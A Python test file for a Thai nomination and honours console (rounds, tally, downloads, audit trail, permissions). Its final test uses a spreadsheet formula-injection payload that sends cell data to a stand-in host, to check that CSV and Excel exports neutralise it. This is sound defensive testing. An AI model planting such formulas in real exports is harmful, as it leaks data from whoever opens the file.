"""The console's เสนอชื่อ page: rounds opened now or later and closed or cancelled, the tally as the
chat shows it (and never who nominated), honourees marked and unmarked, the downloads — each change
in the database and in the audit trail, from the console, LINE and the CLI alike."""
from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta
from urllib.parse import unquote

import sqlalchemy as sa
from openpyxl import load_workbook

from models import nomination as nominations
from models.audit import AuditEntry
from models.nomination import Honour, NominationRound
from models.staff import Staff, by_code
from tests.conftest import add_people, count_rows, postbacks_in, text_of
from tests.support import text_of_page

REASON = "มาทำงานตรงเวลาทุกวัน และช่วยเหลือเพื่อนร่วมงานเสมอ"
UNIT_A, UNIT_B = "กลุ่มงานประสานฯ", "อำเภอเมืองเชียงราย"
NOMINATORS = ("นายสมชาย ใจดี", "นางสมศรี รักดี")  # S01, S02: never shown


def now_of(bot) -> datetime:
    return datetime.now(bot.settings.tz)


def open_now(bot, console) -> int:
    response = console.post("/console/nominations/open", {"title": "", "opens_at": "", "closes_on": ""})
    assert response.status_code == 302, text_of_page(response)
    with bot.db.sessions() as db:
        return nominations.open_round(db, now_of(bot)).id


def nominate(bot, round_id: int, rows: list[tuple[str, str, str]]) -> None:
    """(nominator code, nominee code or u:<unit>, virtue) — as staff do in LINE."""
    with bot.db.session() as db:
        round_ = db.get(NominationRound, round_id)
        for who, whom, virtue in rows:
            nominator = by_code(db, who)
            if whom.startswith("u:"):
                nominations.nominate(db, round_, nominator, "unit", virtue, f"{REASON} ({who})", now_of(bot),
                                     unit=whom[2:])
            else:
                nominations.nominate(db, round_, nominator, "person", virtue, f"{REASON} ({who})", now_of(bot),
                                     nominee=by_code(db, whom))


def audit_rows(bot, entity: str) -> list[AuditEntry]:
    with bot.db.sessions() as db:
        return list(db.scalars(sa.select(AuditEntry).where(AuditEntry.entity == entity).order_by(AuditEntry.id)))


def target_of(bot, code: str) -> str:
    with bot.db.sessions() as db:
        return nominations.person_target(by_code(db, code).id)


def honours(bot) -> set[tuple[str, str]]:
    with bot.db.sessions() as db:
        return {(h.target, h.virtue) for h in db.scalars(sa.select(Honour))}


# -- rounds ----------------------------------------------------------------------------------------
def test_opening_a_round_now_with_the_default_title(bot, console, this_year_plan):
    round_id = open_now(bot, console)
    with bot.db.sessions() as db:
        round_ = db.get(NominationRound, round_id)
        assert round_.title == "เสนอชื่อบุคคลคุณธรรมและหน่วยงานคุณธรรม ปีงบประมาณ 2570"
        assert round_.plan_id == this_year_plan and round_.closes_on is None and round_.closed_at is None
        assert round_.opened_by_id == by_code(db, "C01").id
        assert round_.is_open(now_of(bot))
    (entry,) = audit_rows(bot, "nomination_rounds")
    assert (entry.source, entry.action, entry.actor_name) == ("console", "create", "นางสาวกมลา ประสานงาน")
    page = text_of_page(console.get("/console/nominations/"))
    assert "รอบที่เปิดรับอยู่" in page and "เปิดรับอยู่" in page and "ปิดรับการเสนอชื่อ" in page
    assert "ยังไม่มีผู้เสนอชื่อในรอบนี้" in page

    refused = console.post("/console/nominations/open", {"title": "อีกรอบ"})
    assert refused.status_code == 400 and "กรุณาปิดรอบนั้นก่อน" in text_of_page(refused)
    assert count_rows(bot, NominationRound) == 1


def test_scheduling_a_round_with_a_last_day_then_cancelling_it(bot, console, line, register):
    opens = (now_of(bot) + timedelta(days=10)).replace(hour=8, minute=30, second=0, microsecond=0)
    last = opens.date() + timedelta(days=20)
    response = console.post("/console/nominations/open", {
        "title": "  รอบพิเศษ   ปีใหม่ ", "opens_at": opens.strftime("%Y-%m-%dT%H:%M"), "closes_on": last.isoformat()})
    assert response.status_code == 302
    with bot.db.sessions() as db:
        (round_,) = nominations.rounds(db)
        assert (round_.title, round_.opens_at, round_.closes_on) == ("รอบพิเศษ ปีใหม่", opens, last)
        assert round_.is_scheduled(now_of(bot))
    page = text_of_page(console.get("/console/nominations/"))
    assert "รอบที่กำหนดเปิดไว้" in page and "กำหนดเปิดไว้" in page and "ยกเลิกรอบนี้" in page
    told = text_of(line.say(register("S01"), "เสนอชื่อ"))  # staff: not open yet, and when it opens
    assert "ขณะนี้ยังไม่เปิดให้เสนอชื่อ" in told and "รอบพิเศษ ปีใหม่" in told

    again = console.post("/console/nominations/open", {"title": ""})
    assert again.status_code == 400 and "มีรอบ \"รอบพิเศษ ปีใหม่\" กำหนดเปิดไว้แล้ว" in text_of_page(again)
    cancelled = console.post("/console/nominations/close")
    assert cancelled.status_code == 302
    assert "ยกเลิกรอบ \"รอบพิเศษ ปีใหม่\" ที่กำหนดเปิดไว้แล้ว" in text_of_page(console.get("/console/nominations/"))
    with bot.db.sessions() as db:
        round_ = db.get(NominationRound, round_.id)
        assert round_.closed_at is not None and not round_.is_scheduled(now_of(bot))
    assert "ยกเลิกแล้ว" in text_of_page(console.get("/console/nominations/"))
    assert [e.action for e in audit_rows(bot, "nomination_rounds")] == ["create", "update"]


def test_refusals_are_worded_in_thai(bot, console):
    yesterday = (now_of(bot) - timedelta(days=1)).date().isoformat()
    early = console.post("/console/nominations/open", {"closes_on": yesterday})
    assert early.status_code == 400 and "วันปิดรับต้องไม่ก่อนวันเปิด และไม่ก่อนวันนี้" in text_of_page(early)
    bad = console.post("/console/nominations/open", {"closes_on": "31/02/2570", "title": "ก" * 201,
                                                     "opens_at": "พรุ่งนี้"})
    text = text_of_page(bad)
    assert bad.status_code == 400 and "ชื่อรอบยาวได้ไม่เกิน 200 ตัวอักษร" in text
    assert "กรุณาเลือกวันสุดท้ายที่รับการเสนอชื่อ" in text and "กรุณาเลือกวันและเวลาที่จะเปิดรับ" in text
    assert "Not a valid" not in text
    nothing = console.post("/console/nominations/close")
    assert nothing.status_code == 302
    assert "ไม่มีรอบการเสนอชื่อที่เปิดอยู่" in text_of_page(console.get("/console/nominations/"))
    assert count_rows(bot, NominationRound) == 0 and audit_rows(bot, "nomination_rounds") == []


def test_closing_the_open_round(bot, console):
    round_id = open_now(bot, console)
    nominate(bot, round_id, [("S01", "S03", "วินัย"), ("S02", "S03", "สุจริต")])
    response = console.post("/console/nominations/close")
    assert response.status_code == 302 and response.headers["Location"].endswith(f"/console/nominations/{round_id}")
    with bot.db.sessions() as db:
        round_ = db.get(NominationRound, round_id)
        assert round_.closed_at is not None and not round_.is_open(now_of(bot))
    (closed,) = [e for e in audit_rows(bot, "nomination_rounds") if e.action == "update"]
    assert closed.source == "console" and list(closed.changes) == ["closed_at"]
    page = text_of_page(console.get("/console/nominations/"))
    assert "ปิดรับแล้ว" in page and "เปิดรอบการเสนอชื่อ" in page  # a new round may be opened
    assert "ปิดรับแล้ว 2 รายการ 2 ผู้เสนอ 0 ได้รับการยกย่อง" in page


# -- the tally ---------------------------------------------------------------------------------------
def test_the_tally_as_the_chat_shows_it_and_never_who_nominated(bot, console):
    round_id = open_now(bot, console)
    nominate(bot, round_id, [("S01", "S03", "วินัย"), ("S02", "S03", "วินัย"), ("S02", "S03", "สุจริต"),
                             ("S01", "S04", "จิตอาสา"), ("S02", f"u:{UNIT_A}", "จิตอาสา")])
    with bot.db.sessions() as db:
        result = nominations.tally(db, db.get(NominationRound, round_id))
    assert [e.name for e in result.overall.people] == ["นายวิชัย มั่นคง", "นางสาวดวงใจ สดใส"]

    page = console.get("/console/nominations/")
    text = text_of_page(page)
    assert "ผู้ร่วมเสนอชื่อ 2 คน · รวม 5 รายการ" in text
    people = text.split("บุคคลคุณธรรม (2 ราย)", 1)[1].split("หน่วยงานคุณธรรม (1 ราย)", 1)[0]
    assert re.search(r"1 นายวิชัย มั่นคง อำเภอเมืองเชียงราย 2 คน ด้าน: วินัย 2 · สุจริต 1 รวม 3 รายการ", people)
    assert re.search(r"2 นางสาวดวงใจ สดใส อำเภอเมืองเชียงราย 1 คน ด้าน: จิตอาสา 1", people)
    assert f"{REASON} (S01)" in people and "เหตุผล (3)" in people
    assert "1 กลุ่มงานประสานฯ 1 คน" in text.split("หน่วยงานคุณธรรม (1 ราย)", 1)[1]

    virtue = text_of_page(console.get(f"/console/nominations/{round_id}?view=วินัย"))
    assert "บุคคลคุณธรรม ด้านวินัย (1 ราย)" in virtue and "นางสาวดวงใจ สดใส" not in virtue.split("ด้านวินัย (1 ราย)")[1]
    assert "ยกย่องด้านวินัย" in virtue

    for response in (page, console.get(f"/console/nominations/{round_id}"),
                     console.get(f"/console/nominations/{round_id}?view=จิตอาสา&kind=unit"),
                     console.get(f"/console/nominations/{round_id}/tally.csv")):
        body = response.get_data(as_text=True)
        assert not any(name in body for name in NOMINATORS)
    workbook = console.get(f"/console/nominations/{round_id}/tally.xlsx").data
    cells = [c for row in load_workbook(io.BytesIO(workbook)).active.iter_rows(values_only=True) for c in row]
    assert not any(name in str(c) for c in cells for name in NOMINATORS)


def test_long_lists_show_the_first_ten_and_page_through_the_rest(bot, console):
    add_people(bot, [(f"N{i:03d}", f"บุคลากร ลำดับ{i:03d}", "นักพัฒนาชุมชน", UNIT_B, "staff") for i in range(60)])
    round_id = open_now(bot, console)
    nominate(bot, round_id, [("S01", f"N{i:03d}", "พอเพียง") for i in range(60)])
    text = text_of_page(console.get("/console/nominations/"))
    assert "บุคคลคุณธรรม (60 ราย)" in text and "ดูทั้งหมด 60 ราย" in text
    assert len(re.findall(r"บุคลากร ลำดับ\d{3}", text)) == 10
    first = text_of_page(console.get(f"/console/nominations/{round_id}?kind=person"))
    second = text_of_page(console.get(f"/console/nominations/{round_id}?kind=person&page=2"))
    assert len(re.findall(r"บุคลากร ลำดับ\d{3} ", first)) == 50 and "1–50 จาก 60" in first
    assert len(re.findall(r"บุคลากร ลำดับ\d{3} ", second)) == 10 and "51–60 จาก 60" in second
    assert "หน่วยงานคุณธรรม" not in first.split("← ดูทั้งบุคคลและหน่วยงาน", 1)[1]


# -- honours -----------------------------------------------------------------------------------------
def test_marking_and_unmarking_honourees_from_the_console(bot, console):
    round_id = open_now(bot, console)
    nominate(bot, round_id, [("S01", "S03", "วินัย"), ("S02", f"u:{UNIT_A}", "จิตอาสา")])
    person = target_of(bot, "S03")
    honour = f"/console/nominations/{round_id}/honour"
    assert console.post(honour, {"target": person, "virtue": ""}).status_code == 302
    assert console.post(honour, {"target": person, "virtue": "วินัย", "view": "วินัย"}).status_code == 302
    assert console.post(honour, {"target": f"u:{UNIT_A}", "virtue": ""}).status_code == 302
    assert honours(bot) == {(person, ""), (person, "วินัย"), (f"u:{UNIT_A}", "")}
    created = [e for e in audit_rows(bot, "honours") if e.action == "create"]
    assert len(created) == 3 and {e.source for e in created} == {"console"}
    assert created[1].changes["virtue"] == [None, "วินัย"]

    page = text_of_page(console.get(f"/console/nominations/{round_id}"))
    assert "✓ ได้รับการยกย่อง" in page and "ยกเลิกการยกย่อง" in page
    assert "นายวิชัย มั่นคง อำเภอเมืองเชียงราย บุคคล ด้านวินัย และภาพรวม" in page
    assert "กลุ่มงานประสานฯ หน่วยงาน ภาพรวม" in page

    again = console.post(honour, {"target": person, "virtue": ""})
    assert "ได้รับการยกย่องในภาพรวมอยู่แล้ว" in text_of_page(console.get(again.headers["Location"]))
    removed = console.post(honour, {"target": person, "virtue": "วินัย", "remove": "1", "view": "วินัย"})
    assert unquote(removed.headers["Location"]).endswith(f"/console/nominations/{round_id}?view=วินัย#tally")
    assert honours(bot) == {(person, ""), (f"u:{UNIT_A}", "")}
    (deleted,) = [e for e in audit_rows(bot, "honours") if e.action == "delete"]
    assert deleted.source == "console" and deleted.changes["virtue"] == ["วินัย", None]

    nobody = console.post(honour, {"target": target_of(bot, "S04"), "virtue": ""})
    assert "ไม่พบผู้ถูกเสนอชื่อรายนี้ในรอบนี้" in text_of_page(console.get(nobody.headers["Location"]))
    assert console.post(honour, {"target": person, "virtue": "ขยัน"}).status_code == 400
    assert len(honours(bot)) == 2


def test_line_and_the_cli_reach_the_audit_trail_too(bot, console, line, coordinator_user, runner):
    assert "เปิดรับการเสนอชื่อแล้ว" in text_of(line.say(coordinator_user, "เปิดเสนอชื่อ"))
    with bot.db.sessions() as db:
        round_id = nominations.open_round(db, now_of(bot)).id
    nominate(bot, round_id, [("S01", "S03", "วินัย"), ("S02", "S04", "สุจริต")])
    cards = line.say(coordinator_user, "สรุปเสนอชื่อ")
    taps = [d for d in postbacks_in(cards) if d.startswith("a=nomination.honour&") and d.endswith("&v=0")]
    line.tap(coordinator_user, taps[0])
    line.tap(coordinator_user, taps[0].replace("nomination.honour", "nomination.unhonour"))
    assert "ใช่ไหมคะ" in text_of(line.say(coordinator_user, "ปิดเสนอชื่อ"))  # asks first (issue 14)
    assert "ปิดรับการเสนอชื่อแล้ว" in text_of(line.say(coordinator_user, "ยืนยัน"))
    assert runner.invoke(args=["nominate", "honour", "--person", "S04"]).exit_code == 0
    assert runner.invoke(args=["nominate", "honour", "--person", "S04", "--remove"]).exit_code == 0
    assert runner.invoke(args=["nominate", "open", "--title", "รอบจากเซิร์ฟเวอร์"]).exit_code == 0
    assert runner.invoke(args=["nominate", "close"]).exit_code == 0

    trail = [(e.entity, e.action, e.source) for e in audit_rows(bot, "honours") + audit_rows(bot, "nomination_rounds")]
    assert trail == [("honours", "create", "line"), ("honours", "delete", "line"),
                     ("honours", "create", "cli"), ("honours", "delete", "cli"),
                     ("nomination_rounds", "create", "line"), ("nomination_rounds", "update", "line"),
                     ("nomination_rounds", "create", "cli"), ("nomination_rounds", "update", "cli")]
    (line_honour,) = [e for e in audit_rows(bot, "honours") if e.source == "line" and e.action == "create"]
    assert line_honour.actor_name == "นางสาวกมลา ประสานงาน"
    assert honours(bot) == set()


# -- downloads ---------------------------------------------------------------------------------------
def test_the_downloads_are_the_cli_tally(bot, console, runner):
    round_id = open_now(bot, console)
    nominate(bot, round_id, [("S01", "S03", "วินัย"), ("S02", "S03", "สุจริต"), ("S01", "S04", "วินัย"),
                             ("S02", f"u:{UNIT_A}", "จิตอาสา")])
    console.post(f"/console/nominations/{round_id}/honour", {"target": target_of(bot, "S03"), "virtue": "วินัย"})
    response = console.get(f"/console/nominations/{round_id}/tally.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment; filename*=UTF-8''")
    body = response.data.decode("utf-8")
    assert body.startswith("\ufeff")
    cli = runner.invoke(args=["nominate", "tally", "--round", str(round_id), "--csv"])
    assert cli.exit_code == 0 and body[1:] == cli.output
    rows = list(csv.reader(io.StringIO(body[1:])))
    assert rows[0] == ["section", "virtue", "kind", "rank", "name", "unit", "nominators", "nominations", "honoured",
                       "reasons"]
    assert ["virtue", "วินัย", "person", "2", "นายวิชัย มั่นคง", UNIT_B, "1", "1", "yes", f"{REASON} (S01)"] in rows

    workbook = console.get(f"/console/nominations/{round_id}/tally.xlsx")
    assert workbook.status_code == 200
    name = unquote(workbook.headers["Content-Disposition"].split("''", 1)[1])
    assert name.startswith(f"ผลการเสนอชื่อ-รอบ{round_id}-") and name.endswith(".xlsx")
    sheet = list(load_workbook(io.BytesIO(workbook.data)).active.iter_rows(values_only=True))
    assert sheet[0][:4] == ("ส่วน", "ด้าน", "ประเภท", "อันดับ") and len(sheet[0]) == len(rows[0])
    assert len(sheet) == len(rows)
    for cells, row in zip(sheet[1:], rows[1:], strict=True):
        assert [cells[4], cells[5], str(cells[6]), str(cells[7]), cells[9]] == [row[4], row[5], row[6], row[7], row[9]]
        assert (cells[8] == "ใช่") == (row[8] == "yes")


# -- who may -----------------------------------------------------------------------------------------
def test_executives_read_but_cannot_change(bot, console, executive_console):
    round_id = open_now(bot, console)
    nominate(bot, round_id, [("S01", "S03", "วินัย")])
    page = executive_console.get("/console/nominations/")
    text = text_of_page(page)
    assert page.status_code == 200 and "นายวิชัย มั่นคง" in text
    assert "ปิดรับการเสนอชื่อ" not in text and "ยกย่อง (ภาพรวม)" not in text
    assert executive_console.get(f"/console/nominations/{round_id}").status_code == 200
    assert executive_console.get(f"/console/nominations/{round_id}/tally.xlsx").status_code == 200
    assert executive_console.post("/console/nominations/close").status_code == 403
    assert executive_console.post("/console/nominations/open", {"title": "x"}).status_code == 403
    assert executive_console.post(f"/console/nominations/{round_id}/honour",
                                  {"target": target_of(bot, "S03"), "virtue": ""}).status_code == 403
    with bot.db.sessions() as db:
        assert db.get(NominationRound, round_id).closed_at is None
    assert honours(bot) == set() and count_rows(bot, NominationRound) == 1


def test_anonymous_and_forged_requests_are_refused(bot, anonymous, console):
    for path in ("/console/nominations/", "/console/nominations/1", "/console/nominations/1/tally.csv"):
        response = anonymous.get(path)
        assert response.status_code == 302 and response.headers["Location"].endswith("/console/signin"), path
    assert console.post("/console/nominations/open", {"title": ""}, csrf=False).status_code == 400
    assert count_rows(bot, NominationRound) == 0
    round_id = open_now(bot, console)
    nominate(bot, round_id, [("S01", "S03", "วินัย")])
    assert console.post("/console/nominations/close", csrf=False).status_code == 400
    assert console.post(f"/console/nominations/{round_id}/honour", {"target": target_of(bot, "S03")},
                        csrf=False).status_code == 400
    assert honours(bot) == set() and count_rows(bot, Staff) == 6
    assert console.get("/console/nominations/999").status_code == 404


def test_a_reason_that_looks_like_a_formula_stays_text_in_the_downloads(bot, console):
    """Reasons are typed by anyone in LINE; a coordinator opens the downloads in Excel."""
    round_id = open_now(bot, console)
    trap = '=HYPERLINK("https://example.invalid/?"&A1,"ดูรายละเอียด")'
    with bot.db.session() as db:
        nominations.nominate(db, db.get(NominationRound, round_id), by_code(db, "S01"), "person", "วินัย", trap,
                             now_of(bot), nominee=by_code(db, "S03"))
    body = console.get(f"/console/nominations/{round_id}/tally.csv").data.decode("utf-8")
    reasons = {row[9] for row in csv.reader(io.StringIO(body[1:]))}
    assert "'" + trap in reasons and trap not in reasons
    workbook = load_workbook(io.BytesIO(console.get(f"/console/nominations/{round_id}/tally.xlsx").data))
    cells = [row[9] for row in workbook.active.iter_rows(min_row=2)]
    assert cells and all(cell.data_type == "s" for cell in cells)
    assert {cell.value for cell in cells} == {trap}
